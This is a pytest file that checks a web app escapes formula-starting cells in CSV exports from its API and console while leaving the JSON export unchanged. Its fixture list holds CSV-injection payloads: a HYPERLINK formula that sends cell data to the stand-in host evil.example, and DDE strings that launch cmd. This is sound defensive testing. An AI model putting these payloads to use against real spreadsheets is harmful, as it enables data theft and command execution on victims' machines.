"""Issue 17, item 5: uploaded cells that start a spreadsheet formula come back neutralised in every CSV."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.api.test_batches import upload, wait_done
from tests.ui.conftest import finish, login
from tests.ui.conftest import upload as console_upload

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _attack_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["Vendor ID", "Vendor Name", "=Note"])
    writer.writerows([f"V{i}", name, "-42.5"] for i, name in enumerate(ATTACKS))
    return out.getvalue().encode()


def _records(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_neutralised(records: list[list[str]]) -> None:
    assert records[0][:3] == ["Vendor ID", "Vendor Name", "'=Note"]
    assert [r[1] for r in records[1:]] == ["'" + name for name in ATTACKS]
    assert {r[2] for r in records[1:]} == {"-42.5"}  # a plain negative number is not a formula
    assert not [cell for r in records for cell in r if cell[:1] in ("=", "+", "@", "\t", "\r")]


class TestCsvResults:
    def test_api_csv_quotes_every_formula_cell(self, client: TestClient) -> None:
        created = upload(client, _attack_csv())
        assert created.status_code == 202, created.text
        assert wait_done(client, created.json()["id"])["status"] == "done"

        response = client.get(f"/v1/batches/{created.json()['id']}/results", params={"format": "csv"})

        assert response.status_code == 200
        _assert_neutralised(_records(response.content))

    def test_json_keeps_the_cells_as_uploaded(self, client: TestClient) -> None:
        created = upload(client, _attack_csv()).json()
        wait_done(client, created["id"])

        rows = client.get(f"/v1/batches/{created['id']}/results", params={"format": "json"}).json()["rows"]

        assert [r["cells"]["Vendor Name"] for r in rows] == ATTACKS


def test_console_csv_download_is_neutralised_too(app_client: TestClient) -> None:
    csrf = login(app_client)
    path = console_upload(app_client, csrf, _attack_csv())
    finish(app_client, path)

    response = app_client.get(f"{path}/results.csv")

    assert response.status_code == 200
    _assert_neutralised(_records(response.content))
